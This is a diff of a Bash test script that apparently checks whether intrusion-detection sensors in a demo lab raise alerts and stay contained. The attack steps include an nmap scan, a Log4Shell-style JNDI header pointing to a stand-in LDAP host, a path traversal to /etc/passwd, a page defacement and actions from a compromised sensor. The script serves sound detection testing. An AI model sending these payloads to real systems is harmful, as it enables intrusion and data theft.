@@ -16,7 +16,7 @@ attack_servers() {
     step 'port scan of web1 and web2'
     logged on attacker nmap -n -Pn -sS --max-retries 1 -p 1-1000 \
         "${address[web1]}" "${address[web2]}" || die 'nmap failed'
-    expect_alerts 'port scan (nmap -sS) of' nids 'demo port scan'
+    expect_alerts 'port scan (nmap -sS)' nids 'demo port scan' "${watched[@]}"
 
     step 'web exploits against web1 and web2'
     local host
@@ -27,33 +27,40 @@ attack_servers() {
         logged on attacker curl -sS -m 5 -o /dev/null -H 'X-Api-Version: ${jndi:ldap://192.0.2.66/a}' \
             "http://${address[$host]}/" || die 'curl failed'
     done
-    expect_alerts 'path traversal (curl) on' nids 'demo path traversal'
-    expect_alerts 'JNDI header (curl) on' nids 'demo JNDI lookup'
+    expect_alerts 'path traversal (curl)' nids 'demo path traversal' "${watched[@]}"
+    expect_alerts 'JNDI in a header (curl)' nids 'demo JNDI lookup' "${watched[@]}"
 
     step 'changing a page of web1'
     as_www_in_server web1 sh -c 'echo "<h1>defaced</h1>" >>/srv/www/index.html'
-    local set
-    for set in "${sets[@]}"; do
-        expect_alert "$set" web1 'page changed by the web server on' fim '/.serverfs/site/index.html'
-    done
+    expect_alerts 'page changed by www-data' fim '/.serverfs/site/index.html' web1
 }
 
+# WHAT PORTSPACE TEXT HOST…: an alert with that text from each of the hosts, at both collectors.
 expect_alerts() {
-    local set host
-    for set in "${sets[@]}"; do
-        for host in "${watched[@]}"; do expect_alert "$set" "$host" "$@"; done
-    done
+    local what=$1 portspace=$2 text=$3 set
+    shift 3
+    for set in "${sets[@]}"; do expect_alert "$set" "$what" "$portspace" "$text" "$@"; done
 }
 
-# HYPERSPECTOR HOST WHAT PORTSPACE TEXT
 expect_alert() {
-    local set=$1 host=$2 what=$3 portspace=$4 text=$5 began=$SECONDS holds=0 happened
-    if within 20 has_alert "$set" "$host" "$text"; then
-        happened="arrived within $((SECONDS - began + 1)) s"
-    else
-        holds=1 happened='no line within 20 s'
-    fi
-    row 'What the IDSs should see' "$what $host" "$set/$portspace: alert at $set/collector" "$happened" $holds
+    local set=$1 what=$2 portspace=$3 text=$4 host holds=0 happened=() began=$SECONDS
+    shift 4
+    for host in "$@"; do
+        if within 20 has_alert "$set" "$host" "$text"; then
+            happened+=("$host: within $((SECONDS - began + 1)) s")
+        else
+            holds=1 happened+=("$host: none in 20 s")
+        fi
+    done
+    row 'What the IDSs should see' "$what, $(listed ' and ' "$@")" \
+        "alert at $set's collector" "$(listed ', ' "${happened[@]}")" $holds
+}
+
+# listed SEPARATOR WORD…
+listed() {
+    local text=$2 word
+    for word in "${@:3}"; do text+=$1$word; done
+    echo "$text"
 }
 
 # ---- From a broken-into server against the IDSs
@@ -130,17 +137,15 @@ ids_addresses() { hs "$1" status --json | jq -r '.hyperspectors[].portspaces[].a
 # ---- From a taken IDS against everything else
 
 attack_from_ids() {
-    local ids
-    for ids in alpha/nids alpha/fim; do
-        write_from "$ids"
-    done
+    write_from alpha/nids
     signal_from alpha/nids
     send_packets_from alpha/nids
     reach_beta_from alpha/nids
     reach_outside_from alpha/nids
-    for ids in alpha/nids alpha/fim; do
-        read_key_from "$ids"
-    done
+    read_key_from alpha/nids
+    # This one has a window on the server's files.
+    write_from alpha/fim
+    read_key_from alpha/fim
 }
 
 # Runs the attacker's program in a portspace on web1.
@@ -223,18 +228,23 @@ from_base() {
 }
 
 send_packets_from() {
-    local ids=$1 filter='ether proto 0x88b5 or ip proto 255' control arrived holds=0
+    local ids=$1 filter='ether proto 0x88b5 or ip proto 255' control arrived stopped holds=0
     step "from $ids: sending raw packets"
     control=$(captured "$filter" from_base packets control | lines)
+    stopped=$(stopped_by_guard)
     arrived=$(captured "$filter" from_ids "$ids" packets "$ids" | lines)
+    stopped=$(($(stopped_by_guard) - stopped))
     ((control > 0 && arrived == 0)) && grep -q '^tried ' "$work/output" || holds=1
     ids_row "$ids" 'send raw packets (AF_PACKET, raw IP) on eth0' 'none arrive at the attacker' \
-        "$arrived arrived; $control of the base system's did" $holds
+        "$arrived arrived, $stopped stopped by the guard; of the base system's $control arrived" $holds
 }
 
+stopped_by_guard() { hs web1 status --json | jq '.guard.dropped // 0'; }
+
 reach_beta_from() {
-    local ids=$1 mark="taken, and writing: $RANDOM" holds=0 in_beta in_alpha targets
+    local ids=$1 mark holds=0 in_beta in_alpha targets
     step "from $ids: reaching beta's portspaces"
+    mark="written by $ids, taken ($RANDOM)"
     mapfile -t targets < <(printf '10.66.0.%d:10514\n' {1..254})
     from_ids "$ids" connect "$mark" "${targets[@]}" >/dev/null || holds=1
     within 5 grep_alerts alpha "$mark" || true
@@ -287,15 +297,18 @@ still_watching() {
         logged on attacker curl -sS -m 5 -o /dev/null --path-as-is \
             "http://${address[$host]}/after/../../../etc/passwd" || die 'curl failed'
     done
-    for set in "${sets[@]}"; do
-        for host in "${watched[@]}"; do one_more_alert "$set" "$host"; done
-    done
+    for set in "${sets[@]}"; do one_more_alert_each "$set"; done
 }
 
-one_more_alert() {
-    local set=$1 host=$2 holds=0 happened='arrived'
-    within 20 more_than_one "$set" "$host" || { holds=1; happened='none within 20 s'; }
-    row 'After all that' "path traversal on $host again" "$set/nids: another alert" "$happened" $holds
+one_more_alert_each() {
+    local set=$1 host holds=0 happened=()
+    for host in "${watched[@]}"; do
+        if within 20 more_than_one "$set" "$host"; then happened+=("$host: yes"); else
+            holds=1 happened+=("$host: none in 20 s")
+        fi
+    done
+    row 'After all that' 'path traversal again, web1 and web2' "alert at $set's collector" \
+        "$(listed ', ' "${happened[@]}")" $holds
 }
 
 more_than_one() {
